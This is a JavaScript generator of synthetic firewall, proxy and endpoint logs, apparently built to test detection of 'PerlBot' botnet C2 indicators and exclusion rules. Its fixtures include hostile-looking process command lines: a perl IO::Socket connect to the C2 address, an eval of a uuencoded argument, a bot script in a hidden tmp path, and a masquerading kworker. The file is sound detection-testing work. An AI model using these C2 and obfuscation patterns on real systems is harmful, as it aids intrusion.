  let ext = `loguid={0x${rng.hex(8)},0x${rng.int(16).toString(16)},0x${rng.hex(8)},0xc0000001};origin=${fw.address};originsicname=CN\\=${fw.name},O\\=cp-mgmt..hq3a4b;sequencenum=${rng.range(1, 4000)};version=5;__policy_id_tag=product\\=VPN-1 & FireWall-1[db_tag\\={${ctx.ruleUuid.toUpperCase()}};mgmt\\=cp-mgmt;date\\=1715000000;policy_name\\=Standard\\];inzone=${flow.direction === 'outbound' ? 'Internal' : 'External'};layer_name=Network;layer_uuid=${ctx.ruleUuid};match_id=${rng.range(1, 40)};parent_rule=0;rule_action=${drop ? 'Drop' : 'Accept'};rule_uid=${ctx.ruleUuid};outzone=${flow.direction === 'outbound' ? 'External' : 'Internal'};product=VPN-1 & FireWall-1;service_id=${flow.dport === 443 ? 'https' : flow.dport === 80 ? 'http' : 'tcp-' + flow.dport};xlatesrc=${flow.snat ?? '0.0.0.0'};xlatesport=${flow.snatPort ?? 0};xlatedport=0;nat_addtnl_rulenum=1;nat_rulenum=${rng.range(1, 30)};hll_key=${rng.range(1e9, 9e9)};ifdir=${flow.direction === 'outbound' ? 'outbound' : 'inbound'}`;
  if (multiline) {
    ext += `;message_info=Connection terminated before detection,\n insufficient data passed. To learn more see sk113479.;comment=auto-generated by "SmartEvent"`;
  }
  row.set('AdditionalExtensions', ext);
  return row;
}

function zscalerRow(rng, ctx, { url, host } = {}) {
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Zscaler', 'NSSWeblog', '6.1');
  const blocked = rng.chance(0.05);
  const domain = host ?? rng.pick(DOMAINS);
  const requestUrl = url ?? `https://${domain}${rng.pick(URL_PATHS)}`;
  const user = rng.pick(USERS);
  row.set('DeviceEventClassID', blocked ? 'Blocked' : 'Allowed');
  row.set('Activity', blocked ? 'Blocked' : 'Allowed');
  row.set('DeviceAction', blocked ? 'Blocked' : 'Allowed');
  row.set('SimplifiedDeviceAction', blocked ? 'Deny' : 'Allow');
  row.set('LogSeverity', blocked ? '7' : '0');
  row.set('SourceIP', privateIp(rng));
  row.set('SourceTranslatedAddress', rng.pick(ORG_PUBLIC));
  row.set('DestinationIP', publicIp(rng));
  row.set('DestinationHostName', domain);
  row.set('RequestURL', requestUrl);
  row.set('RequestMethod', rng.pick(['GET', 'GET', 'GET', 'POST', 'CONNECT']));
  row.set('RequestClientApplication', rng.pick(USER_AGENTS));
  row.set('RequestContext', rng.chance(0.5) ? `https://${rng.pick(DOMAINS)}/` : 'None');
  row.set('SourceUserName', `${user}@contoso.com`);
  row.set('SourceHostName', `wks-${user}-${rng.range(1, 40)}`);
  row.set('ApplicationProtocol', requestUrl.startsWith('https') ? 'HTTPS' : 'HTTP');
  row.set('SentBytes', rng.range(200, 9000));
  row.set('ReceivedBytes', rng.range(200, 2000000));
  row.set('FileType', rng.pick(['None', 'None', 'None', 'GZIP', 'JavaScript', 'JSON', 'PNG']));
  row.set('DeviceCustomString2', rng.pick(['Sales', 'Engineering', 'Finance', 'IT', 'Legal']));
  row.set('DeviceCustomString2Label', 'dept');
  row.set('DeviceCustomString3', rng.pick(['Business Use', 'Web Search', 'Professional Services', 'Social Networking', 'Corporate Marketing']));
  row.set('DeviceCustomString3Label', 'urlcat');
  row.set('DeviceCustomString5', 'None');
  row.set('DeviceCustomString5Label', 'threatname');
  row.set('DeviceCustomNumber1', rng.int(100));
  row.set('DeviceCustomNumber1Label', 'riskscore');
  row.set(
    'AdditionalExtensions',
    `ZscalerNSSWeblogURLClass=Business Use;ZscalerNSSWeblogDLPIdentifier=0;ZscalerNSSWeblogDLPMD5=None;ZscalerNSSWeblogDLPEngine=None;ZscalerNSSWeblogDLPDictionaries=None;ZscalerNSSWeblogRecordid=${rng.range(1e9, 9e9)};ZscalerNSSWeblogLocation=HQ-Tunnel;ZscalerNSSWeblogContenttype=text/html;ZscalerNSSWeblogUnscannabletype=None;ZscalerNSSWeblogDevicehostname=wks-${user};ZscalerNSSWeblogDeviceowner=${user}`,
  );
  return row;
}

// The EDR-ish source: the only CommonSecurityLog rows with process, file and user columns,
// so the only ones the default exclusions can ever apply to.
const EDR_BENIGN = [
  { proc: '/usr/bin/rsync', file: 'daily-backup.sh', path: '/opt/backup/daily-backup.sh', type: 'script' },
  { proc: '/usr/sbin/cron', file: 'logrotate', path: '/etc/cron.daily/logrotate', type: 'script' },
  { proc: '/usr/bin/python3', file: 'healthcheck.py', path: '/opt/monitoring/healthcheck.py', type: 'script' },
  { proc: '/usr/sbin/sshd', file: 'sshd', path: '/usr/sbin/sshd', type: 'elf' },
  { proc: '/usr/bin/dpkg', file: 'libssl3.deb', path: '/var/cache/apt/archives/libssl3.deb', type: 'archive' },
  { proc: '/usr/bin/java', file: 'app.jar', path: '/srv/app/app.jar', type: 'archive' },
];

/** Each exclusion rule of lib/data/exclusions.json, as CommonSecurityLog columns that satisfy it. */
const CSL_SUPPRESSIONS = [
  { rule: 'backup-rsync-tar', set: { FileType: 'script', SourceProcessName: '/usr/bin/rsync', FileName: 'nightly_sync.pl', FilePath: '/opt/backup/nightly_sync.pl', SourceUserName: 'svc_backup' } },
  { rule: 'backup-rsync-tar', set: { FileType: 'script', ProcessName: 'tar', FileName: 'archive_logs.pl', FilePath: '/opt/backup/archive_logs.pl', SourceUserName: 'svc_backup' } },
  { rule: 'cron-log-parser', set: { FileType: 'script', ProcessName: '/usr/sbin/cron', FilePath: '/opt/scripts/log_parser.pl', SourceUserName: 'logs' } },
  { rule: 'admin-config-gen', set: { FileType: 'script', SourceProcessName: 'perl', FileName: 'config_gen.pl', FilePath: '/srv/deploy/config_gen.pl', SourceUserName: 'CONTOSO\\admin' } },
  { rule: 'ci-test-script', set: { FileType: 'script', DestinationProcessName: 'gitlab-runner', FileName: 'test_script.pl', FilePath: '/builds/app/t/test_script.pl', SourceUserName: 'gitlab-runner' } },
  { rule: 'devops-config-manage', set: { FileType: 'script', SourceProcessName: 'chef', FileName: 'config_manage.pl', FilePath: '/var/chef/cache/config_manage.pl', SourceUserName: 'root' } },
];
/** Close to a rule, but not matching it: these stay active hits. */
const CSL_EXCLUSION_LOOKALIKES = [
  { FileType: 'script', SourceProcessName: '/usr/bin/rsync2', FileName: 'nightly_sync.pl', FilePath: '/opt/backup/nightly_sync.pl', SourceUserName: 'svc_backup' },
  { FileType: 'scripts', SourceProcessName: 'rsync', FileName: 'nightly_sync.pl', FilePath: '/opt/backup/nightly_sync.pl', SourceUserName: 'svc_backup' },
  { FileType: 'script', SourceProcessName: 'chef-client', FileName: 'config_manage.pl', FilePath: '/var/chef/cache/config_manage.pl', SourceUserName: 'root' },
  { FileType: 'script', SourceProcessName: 'perl', FileName: 'config_gen.pl', FilePath: '/srv/deploy/config_gen.pl', SourceUserName: 'CONTOSO\\administrator' },
  { FileType: 'script', ProcessName: '/usr/sbin/cron', FilePath: '/opt/scripts/log_parser.pl.bak', SourceUserName: 'logs' },
];

function edrRow(rng, ctx, { dst = null, dport = null, fields = null, message = null } = {}) {
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Trend Micro', 'Deep Security Agent', '20.0.1-9400');
  const host = rng.pick(LINUX_HOSTS);
  const hostIp = `10.20.${LINUX_HOSTS.indexOf(host)}.${10 + LINUX_HOSTS.indexOf(host)}`;
  const network = dst !== null || rng.chance(0.5);
  row.set('DeviceEventClassID', network ? '6000002' : '4000030');
  row.set('Activity', network ? 'Application Control network connection' : 'Integrity Monitoring file change');
  row.set('LogSeverity', '6');
  row.set('DeviceAction', network ? 'Detected' : 'Changed');
  row.set('SimplifiedDeviceAction', 'Alert');
  row.set('DeviceName', host);
  row.set('SourceHostName', host);
  row.set('DeviceExternalID', String(rng.range(1000, 1999)));
  row.set('SourceIP', hostIp);
  if (network) {
    row.set('SourcePort', ephemeralPort(rng));
    row.set('DestinationIP', dst ?? publicIp(rng));
    row.set('DestinationPort', dport ?? rng.pick([443, 443, 80, 873, 22]));
    row.set('Protocol', 'TCP');
  }
  const benign = rng.pick(EDR_BENIGN);
  const set = fields ?? { SourceProcessName: benign.proc, FileName: benign.file, FilePath: benign.path, FileType: benign.type, SourceUserName: rng.pick(['root', 'svc_backup', 'www-data', 'deploy']) };
  for (const [k, v] of Object.entries(set)) row.set(k, v);
  row.set('SourceProcessId', rng.range(300, 99999));
  row.set('FileHash', rng.hex(64));
  row.set('FileSize', rng.range(200, 400000));
  row.set('FilePermission', rng.pick(['rwxr-xr-x', 'rw-r--r--', 'rwx------']));
  row.set('Message', message ?? (rng.chance(0.3) ? edrProcessTree(rng, set) : ''));
  row.set('AdditionalExtensions', `TrendMicroDsTenant=Primary;TrendMicroDsTenantId=0;TrendMicroDsDetectionConfidence=${rng.range(0, 100)};TrendMicroDsRelevantDetectionNames=;TrendMicroDsBehaviorRuleID=;TrendMicroDsBehaviorType=`);
  return row;
}

/** A multi-line message with quotes and commas: the CSV framing stress of these exports. */
function edrProcessTree(rng, set, extra = '') {
  const proc = set.SourceProcessName ?? set.ProcessName ?? set.DestinationProcessName ?? '/bin/sh';
  const nl = rng.chance(0.5) ? '\n' : '\r\n';
  return `Process tree:${nl}  /sbin/init${nl}    ${proc} --daemon${nl}      /bin/sh -c "${set.FilePath ?? '/tmp/x'} --quiet, --log=/var/log/job.log"${extra}${nl}Verdict: "allowed", reason: policy match`;
}

// ------------------------------------------------------------------------- CommonSecurityLog records

const CSL_KIND = weighted([
  [1 / 2500, 'hit'],
  [1 / 8000, 'suppressed'],
  [1 / 15000, 'exclusion-lookalike'],
  [1 / 1500, 'ioc-text'],
  [1 / 4000, 'lookalike-ip'],
  [1 - 1 / 2500 - 1 / 8000 - 1 / 15000 - 1 / 1500 - 1 / 4000, 'normal'],
]);
const CSL_SOURCE = weighted([[35, 'pan'], [25, 'forti'], [15, 'asa'], [10, 'cp'], [10, 'zscaler'], [5, 'edr']]);
const FIREWALL_ROW = { pan: panRow, forti: fortiRow, asa: asaRow, cp: cpRow };
const HIT_FIREWALL = weighted([[40, 'pan'], [25, 'forti'], [20, 'asa'], [15, 'cp']]);

function enrich(row, ip) {
  const ti = THREAT_INTEL[ip];
  row.set('MaliciousIP', ip);
  row.set('RemoteIP', ip);
  row.set('ThreatSeverity', 3);
  row.set('IndicatorThreatType', 'Botnet');
  row.set('ThreatDescription', 'ThreatFox: PerlBot botnet C2');
  row.set('ThreatConfidence', ti.confidence);
  row.set('ReportReferenceLink', 'https://threatfox.abuse.ch/browse/malware/pl.perlbot/');
  row.set('MaliciousIPLongitude', ti.longitude);
  row.set('MaliciousIPLatitude', ti.latitude);
  row.set('MaliciousIPCountry', 'Switzerland');
}

const CSL_HIT_SHAPES = ['out', 'out', 'in', 'out', 'dnat', 'out', 'in', 'out', 'out', 'both'];

function cslHitFlow(rng, ctx, fw, shape) {
  const ioc = rng.chance(0.5) ? IOC84 : IOC86;
  if (shape === 'out') {
    const flow = outboundFlow(rng, fw);
    flow.dst = ctx.cslForm()(ioc);
    flow.dport = rng.chance(0.85) ? 443 : rng.pick([8443, 80]);
    return { flow, iocs: [ioc] };
  }
  if (shape === 'in') {
    const flow = inboundFlow(rng, fw);
    flow.src = ctx.cslForm()(ioc);
    flow.sport = rng.chance(0.3) ? 443 : ephemeralPort(rng);
    return { flow, iocs: [ioc] };
  }
  if (shape === 'dnat') {
    // policy-based redirect: a public DNS address translated to the C2 (translated column only;
    // only PAN-OS and Check Point rows carry a destination translation)
    const flow = outboundFlow(rng, fw);
    flow.dnat = ctx.cslForm()(ioc);
    flow.dnatPort = 443;
    return { flow, iocs: [ioc] };
  }
  // one C2 talking to the other through the DMZ: both IOCs in one record
  const flow = inboundFlow(rng, fw);
  flow.src = IOC84;
  flow.dst = IOC86;
  flow.dnat = IOC86;
  return { flow, iocs: [IOC84, IOC86] };
}

function cslIocTextRow(rng, ctx, ioc) {
  const other = ioc === IOC84 ? IOC86 : IOC84;
  switch (ctx.textCase()) {
    case 0:
      return zscalerRow(rng, ctx, { host: 'www.virustotal.com', url: `https://www.virustotal.com/gui/ip-address/${ioc}/detection` });
    case 1:
      return zscalerRow(rng, ctx, { host: 'threatfox.abuse.ch', url: `https://threatfox.abuse.ch/browse.php?search=ioc%3A${ioc}` });
    case 2: {
      const row = asaRow(rng, ctx, outboundFlow(rng, FIREWALLS.asa[0]));
      row.set('DeviceEventClassID', '111008');
      row.set('Activity', 'User executed a command');
      row.set('DeviceAction', 'executed');
      row.set('Message', `%ASA-5-111008: User 'netadmin' executed the 'network-object host ${ioc}' command.`);
      return row;
    }
    case 3: {
      const row = cpRow(rng, ctx, outboundFlow(rng, FIREWALLS.cp[0]));
      row.set('Activity', 'IOC Feed Update');
      row.set('Message', `IOC feed "ThreatFox PerlBot" updated: 2 indicators added (${ioc}:443, ${other}:443), 0 removed`);
      return row;
    }
    case 4: {
      // blocked before connecting: the IOC is only in the command line of a multi-line message
      const fields = { SourceProcessName: '/usr/bin/perl', FileName: 'update.pl', FilePath: '/var/tmp/.cache/update.pl', FileType: 'script', SourceUserName: 'www-data' };
      return edrRow(rng, ctx, { fields, message: edrProcessTree(rng, fields, ` && perl -MIO::Socket -e "connect(""${ioc}"", 443)"`) });
    }
    default: {
      // a proxied request: the firewall sees the proxy, the URL names the C2
      const row = panRow(rng, ctx, { ...outboundFlow(rng, FIREWALLS.pan[0]), dst: '10.0.5.10', dport: 3128 });
      row.set('DeviceEventClassID', 'url');
      row.set('Activity', 'THREAT');
      row.set('RequestURL', `${ioc}/gate.php?id=${rng.hex(8)}`);
      row.set('AdditionalExtensions', `${row.raw.AdditionalExtensions};PanOSThreatID=(9999);PanOSThreatCategory=command-and-control;PanOSContentType=text/html;PanOSReferer=http://${ioc}/`);
      return row;
    }
  }
}

function makeCslGenerator(seed) {
  const rng = new Rng(seed, 1);
  const ctx = {
    tenantId: new Rng(seed, 99).guid(),
    ms: EPOCH0,
    ruleUuid: '',
    cslForm: cycler(ADDRESS_FORMS_CSL),
    hitShape: cycler(CSL_HIT_SHAPES),
    suppression: cycler(CSL_SUPPRESSIONS),
    exclusionLookalike: cycler(CSL_EXCLUSION_LOOKALIKES),
    lookalike: cycler(LOOKALIKES),
    textCase: cycler([0, 1, 2, 3, 4, 5]),
  };
  const ruleUuids = Array.from({ length: 8 }, () => rng.guid());
  return {
    header: cslHeader,
    next() {
      ctx.ms += rng.int(25);
      ctx.ruleUuid = rng.pick(ruleUuids);
      const kind = CSL_KIND(rng);
      let row;
      let suppressedBy = null;
      let intendedIocs = [];
      switch (kind) {
        case 'normal': {
          const source = CSL_SOURCE(rng);
          if (source === 'zscaler') row = zscalerRow(rng, ctx);
          else if (source === 'edr') row = edrRow(rng, ctx);
          else {
            const fw = rng.pick(FIREWALLS[source]);
            const flow = rng.chance(0.85) ? outboundFlow(rng, fw) : inboundFlow(rng, fw);
            row = source === 'cp' ? cpRow(rng, ctx, flow, { multiline: rng.chance(0.03) }) : FIREWALL_ROW[source](rng, ctx, flow);
          }
          break;
        }
        case 'hit': {
          const shape = ctx.hitShape();
          const source = shape === 'dnat' || shape === 'both' ? rng.pick(['pan', 'cp']) : HIT_FIREWALL(rng);
          const fw = rng.pick(FIREWALLS[source]);
          const { flow, iocs } = cslHitFlow(rng, ctx, fw, shape);
          row = FIREWALL_ROW[source](rng, ctx, flow);
          if (rng.chance(0.7)) enrich(row, iocs[0]);
          intendedIocs = iocs;
          break;
        }
        case 'suppressed':
        case 'exclusion-lookalike': {
          const ioc = rng.chance(0.5) ? IOC84 : IOC86;
          let fields;
          if (kind === 'suppressed') {
            const s = ctx.suppression();
            fields = s.set;
            suppressedBy = s.rule;
          } else {
            fields = ctx.exclusionLookalike();
          }
          row = edrRow(rng, ctx, { dst: ctx.cslForm()(ioc), dport: 443, fields });
          if (rng.chance(0.3)) row.set('Message', edrProcessTree(rng, fields));
          intendedIocs = [ioc];
          break;
        }
        case 'ioc-text':
          row = cslIocTextRow(rng, ctx, rng.chance(0.5) ? IOC84 : IOC86);
          break;
        case 'lookalike-ip': {
          const source = HIT_FIREWALL(rng);
          const fw = rng.pick(FIREWALLS[source]);
          const flow = outboundFlow(rng, fw);
          const fake = ctx.lookalike()(rng.chance(0.5) ? IOC84 : IOC86);
          if (rng.chance(0.7)) flow.dst = fake;
          else flow.snat = fake;
          row = FIREWALL_ROW[source](rng, ctx, flow);
          break;
        }
      }
      const matches = [];
      for (const field of CSL_WATCHED) {
        const value = row.raw[field];
        const ip = value === undefined ? null : iocOf(value);
        if (ip) matches.push({ field, ip });
      }
      return { kind, text: row.text(), matches, intendedIocs, suppressedBy };
    },
  };
}

// ========================================================================= DeviceNetworkEvents

const WIN_PROCESSES = [
  { fileName: 'chrome.exe', folder: 'c:\\program files\\google\\chrome\\application\\chrome.exe', company: 'Google LLC', product: 'Google Chrome', version: '124.0.6367.119', description: 'Google Chrome', size: 2693920, cmd: '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2284 --field-trial-handle=2016,i,6508149391298469082,7205594027980809143,262144 /prefetch:8', parent: 'chrome.exe', browser: true },
  { fileName: 'msedge.exe', folder: 'c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe', company: 'Microsoft Corporation', product: 'Microsoft Edge', version: '124.0.2478.80', description: 'Microsoft Edge', size: 4012344, cmd: '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=1920,i,1187732230126641010,7630516066352214187,262144 /prefetch:3', parent: 'msedge.exe', browser: true },
  { fileName: 'svchost.exe', folder: 'c:\\windows\\system32\\svchost.exe', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', version: '10.0.22621.3447', description: 'Host Process for Windows Services', size: 57360, cmd: 'svchost.exe -k NetworkService -p -s Dnscache', parent: 'services.exe', system: true },
  { fileName: 'MsSense.exe', folder: 'c:\\program files\\windows defender advanced threat protection\\mssense.exe', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', version: '10.8760.22621.1010', description: 'Windows Defender Advanced Threat Protection Service Executable', size: 402352, cmd: '"MsSense.exe"', parent: 'services.exe', system: true },
  { fileName: 'OneDrive.exe', folder: 'c:\\users\\{user}\\appdata\\local\\microsoft\\onedrive\\onedrive.exe', company: 'Microsoft Corporation', product: 'Microsoft OneDrive', version: '24.076.0414.0005', description: 'Microsoft OneDrive', size: 3541512, cmd: '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', parent: 'explorer.exe' },
  { fileName: 'ms-teams.exe', folder: 'c:\\program files\\windowsapps\\msteams_24091.214.2846.1452_x64__8wekyb3d8bbwe\\ms-teams.exe', company: 'Microsoft Corporation', product: 'Microsoft Teams', version: '24091.214.2846.1452', description: 'Microsoft Teams', size: 1201304, cmd: '"ms-teams.exe" msteams:system-initiated', parent: 'explorer.exe' },
  { fileName: 'OUTLOOK.EXE', folder: 'c:\\program files\\microsoft office\\root\\office16\\outlook.exe', company: 'Microsoft Corporation', product: 'Microsoft Outlook', version: '16.0.17531.20140', description: 'Microsoft Outlook', size: 43412856, cmd: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE" ', parent: 'explorer.exe' },
  { fileName: 'powershell.exe', folder: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', version: '10.0.22621.3447', description: 'Windows PowerShell', size: 450560, cmd: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\IT\\inventory.ps1"', parent: 'svchost.exe' },
];
const LINUX_PROCESSES = [
  { fileName: 'curl', folder: '/usr/bin/curl', size: 260328, cmd: 'curl -fsSL https://deb.debian.org/debian/dists/bookworm/InRelease -o /tmp/InRelease', parent: 'bash' },
  { fileName: 'apt-get', folder: '/usr/bin/apt-get', size: 18728, cmd: 'apt-get update -qq', parent: 'sudo' },
  { fileName: 'python3.11', folder: '/usr/bin/python3.11', size: 6831736, cmd: '/usr/bin/python3 /opt/monitoring/healthcheck.py --interval 60', parent: 'systemd' },
  { fileName: 'sshd', folder: '/usr/sbin/sshd', size: 1265624, cmd: 'sshd: deploy [priv]', parent: 'sshd' },
  { fileName: 'wdavdaemon', folder: '/opt/microsoft/mdatp/sbin/wdavdaemon', size: 11003512, cmd: '/opt/microsoft/mdatp/sbin/wdavdaemon', parent: 'systemd' },
  { fileName: 'node', folder: '/usr/bin/node', size: 97392400, cmd: 'node /srv/app/server.js', parent: 'systemd' },
  { fileName: 'java', folder: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', size: 14488, cmd: '/usr/bin/java -Xmx2g -jar /srv/app/app.jar --spring.profiles.active=prod', parent: 'systemd' },
  { fileName: 'perl', folder: '/usr/bin/perl', size: 3988736, cmd: 'perl /opt/scripts/log_parser.pl --daily', parent: 'cron' },
  { fileName: 'rsync', folder: '/usr/bin/rsync', size: 523760, cmd: 'rsync -az /srv/data/ backup-01:/backups/web/', parent: 'cron' },
  { fileName: 'systemd-resolved', folder: '/usr/lib/systemd/systemd-resolved', size: 612552, cmd: '/lib/systemd/systemd-resolved', parent: 'systemd' },
];
const ACTION_TYPES = weighted([
  [55, 'ConnectionSuccess'],
  [10, 'ConnectionRequest'],
  [8, 'ConnectionFailed'],
  [10, 'InboundConnectionAccepted'],
  [5, 'ConnectionFound'],
  [4, 'ListeningConnectionCreated'],
  [3, 'DnsConnectionInspected'],
  [2, 'HttpConnectionInspected'],
  [2, 'SslConnectionInspected'],
  [1, 'NetworkSignatureInspected'],
]);

/** Process contexts of an active PerlBot hit: none of them is near any exclusion rule. */
const PERLBOT_CONTEXTS = [
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /tmp/.ICE-unix/.x/bot.pl', parent: 'bash', account: 'www-data' },
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: '/usr/bin/perl -e eval(unpack("u",$ARGV[0]))', parent: 'sh', account: 'www-data' },
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl -MIO::Socket::INET -e "$s=IO::Socket::INET->new(PeerPort=>443)"', parent: 'httpd', account: 'apache' },
  { fileName: 'kworker', folder: '/dev/shm/.k/kworker', cmd: '[kworker/0:2]', parent: 'perl', account: 'nobody' },
  { fileName: 'perl.exe', folder: 'c:\\strawberry\\perl\\bin\\perl.exe', cmd: '"C:\\Strawberry\\perl\\bin\\perl.exe" C:\\Users\\Public\\svc.pl', parent: 'cmd.exe', account: 'tbrown' },
];
/** Each DeviceNetworkEvents-applicable exclusion rule, as a process context that satisfies it. */
const DNE_SUPPRESSIONS = [
  { rule: 'cron-log-parser', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /opt/scripts/log_parser.pl --daily', parent: 'cron', account: 'logs' } },
  { rule: 'cron-log-parser', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: '/usr/bin/perl "/opt/scripts/log_parser.pl" --since yesterday', parent: 'systemd', account: 'logs' } },
  { rule: 'admin-config-gen', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /srv/deploy/config_gen.pl --env prod', parent: 'bash', account: 'root' } },
  { rule: 'ci-test-script', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl t/test_script.pl --verbose', parent: 'gitlab-runner', account: 'gitlab-runner' } },
  { rule: 'ci-test-script', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /var/lib/jenkins/workspace/app/test_script.pl', parent: 'jenkins', account: 'jenkins' } },
  { rule: 'devops-config-manage', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /var/chef/cache/config_manage.pl', parent: 'chef', account: 'root' } },
  { rule: 'devops-config-manage', ctx: { fileName: 'perl', folder: '/usr/bin/perl', cmd: "perl '/tmp/ansible-tmp-1716/config_manage.pl'", parent: 'ansible', account: 'deploy' } },
];
const DNE_EXCLUSION_LOOKALIKES = [
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /opt/scripts/log_parser.pl.bak --daily', parent: 'cron', account: 'logs' },
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /var/chef/cache/config_manage.pl', parent: 'chef-client', account: 'root' },
  { fileName: 'perl', folder: '/usr/bin/perl', cmd: 'perl /srv/deploy/config_gen.pl --env prod', parent: 'bash', account: 'administrator' },
  // rsync is in backup-rsync-tar, but that rule also needs file_type, which this table lacks
  { fileName: 'rsync', folder: '/usr/bin/rsync', cmd: 'rsync -az --rsh=ssh /srv/ sync@remote:/srv/', parent: 'bash', account: 'root' },
];

function makeDevices(rng) {
  const devices = [];
  const depts = ['fin', 'hr', 'eng', 'ops', 'sales', 'legal'];
  for (let i = 0; i < 240; i++) {
    const linux = i % 5 === 0;
    const user = rng.pick(USERS);
    devices.push({
      id: rng.hex(40),
      name: linux ? `${rng.pick(['web', 'db', 'app', 'build', 'cache'])}-${pad2(i % 40)}.prod.contoso.local` : `wks-${rng.pick(depts)}-${pad3(i)}.contoso.local`,
      group: linux ? 'Linux Servers' : rng.pick(['Workstations', 'Workstations', 'UnassignedGroup']),
      localIp: privateIp(rng),
      linux,
      user,
      sid: `S-1-5-21-${rng.range(1e9, 4e9)}-${rng.range(1e9, 4e9)}-${rng.range(1e9, 4e9)}-${rng.range(1000, 9999)}`,
      objectId: rng.guid(),
    });
  }
  return devices;
}

function makeHashes(rng, list) {
  return list.map((p) => ({ ...p, sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) }));
}

function makeDneGenerator(seed) {
  const rng = new Rng(seed, 2);
  const tenantId = new Rng(seed, 99).guid();
  const devices = makeDevices(rng);
  const winProcs = makeHashes(rng, WIN_PROCESSES);
  const linuxProcs = makeHashes(rng, LINUX_PROCESSES);
  const perlHash = { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) };
  let ms = EPOCH0;
  let reportId = 10000;
  const dneForm = cycler(ADDRESS_FORMS_DNE);
  const hitShape = cycler(['plain', 'plain', 'url', 'plain', 'proxy', 'plain', 'plain', 'local', 'plain', 'both']);
  const perlbotContext = cycler(PERLBOT_CONTEXTS);
  const suppression = cycler(DNE_SUPPRESSIONS);
  const exclusionLookalike = cycler(DNE_EXCLUSION_LOOKALIKES);
  const lookalike = cycler(LOOKALIKES);
  const textCase = cycler([0, 1, 2, 3, 4]);
  const lookalikeField = cycler(['RemoteIP', 'LocalIP', 'RemoteUrl']);

  const kindOf = weighted([
    [1 / 2500, 'hit'],
    [1 / 8000, 'suppressed'],
    [1 / 15000, 'exclusion-lookalike'],
    [1 / 1500, 'ioc-text'],
    [1 / 4000, 'lookalike-ip'],
    [1 - 1 / 2500 - 1 / 8000 - 1 / 15000 - 1 / 1500 - 1 / 4000, 'normal'],
  ]);

  function base(device, proc, action) {
    const user = device.linux ? (proc.account ?? rng.pick(['root', 'deploy', 'www-data', 'systemd-resolve'])) : proc.system ? 'system' : device.user;
    const inbound = action === 'InboundConnectionAccepted' || action === 'ListeningConnectionCreated';
    const ts = isoTime(ms, rng.int(10000));
    const created = isoTime(ms - rng.range(60000, 86400000), rng.int(10000));
    const props = {
      Timestamp: ts,
      DeviceId: device.id,
      DeviceName: device.name,
      ActionType: action,
      RemoteIP: inbound ? privateIp(rng) : publicIp(rng),
      RemotePort: inbound ? ephemeralPort(rng) : rng.pick([443, 443, 443, 80, 53, 8080]),
      RemoteUrl: null,
      LocalIP: device.localIp,
      LocalPort: inbound ? rng.pick([443, 445, 22, 3389]) : ephemeralPort(rng),
      Protocol: rng.pick(['Tcp', 'Tcp', 'TcpV4', 'Udp']),
      LocalIPType: 'Private',
      RemoteIPType: inbound ? 'Private' : 'Public',
      InitiatingProcessSHA1: proc.sha1 ?? perlHash.sha1,
      InitiatingProcessSHA256: proc.sha256 ?? perlHash.sha256,
      InitiatingProcessMD5: proc.md5 ?? perlHash.md5,
      InitiatingProcessFileName: proc.fileName,
      InitiatingProcessFileSize: proc.size ?? 3988736,
      InitiatingProcessVersionInfoCompanyName: proc.company ?? null,
      InitiatingProcessVersionInfoProductName: proc.product ?? null,
      InitiatingProcessVersionInfoProductVersion: proc.version ?? null,
      InitiatingProcessVersionInfoInternalFileName: proc.company ? proc.fileName.toLowerCase() : null,
      InitiatingProcessVersionInfoOriginalFileName: proc.company ? proc.fileName : null,
      InitiatingProcessVersionInfoFileDescription: proc.description ?? null,
      InitiatingProcessId: rng.range(4, 65000),
      InitiatingProcessCommandLine: proc.cmd.replaceAll('{user}', device.user),
      InitiatingProcessCreationTime: created,
      InitiatingProcessFolderPath: proc.folder.replaceAll('{user}', device.user),
      InitiatingProcessParentFileName: proc.parent,
      InitiatingProcessParentId: rng.range(1, 65000),
      InitiatingProcessParentCreationTime: created,
      InitiatingProcessAccountDomain: device.linux ? device.name.split('.')[0] : proc.system ? 'nt authority' : 'contoso',
      InitiatingProcessAccountName: user,
      InitiatingProcessAccountSid: device.linux ? null : proc.system ? 'S-1-5-18' : device.sid,
      InitiatingProcessAccountUpn: device.linux || proc.system ? null : `${device.user}@contoso.com`,
      InitiatingProcessAccountObjectId: device.linux || proc.system ? null : device.objectId,
      InitiatingProcessIntegrityLevel: device.linux ? null : proc.system ? 'System' : 'Medium',
      InitiatingProcessTokenElevation: device.linux ? null : proc.system ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited',
      ReportId: reportId++,
      AppGuardContainerId: '',
      AdditionalFields: null,
      InitiatingProcessSessionId: device.linux ? null : proc.system ? 0 : rng.range(1, 4),
      IsInitiatingProcessRemoteSession: false,
      InitiatingProcessRemoteSessionDeviceName: null,
      InitiatingProcessRemoteSessionIP: null,
      MachineGroup: device.group,
    };
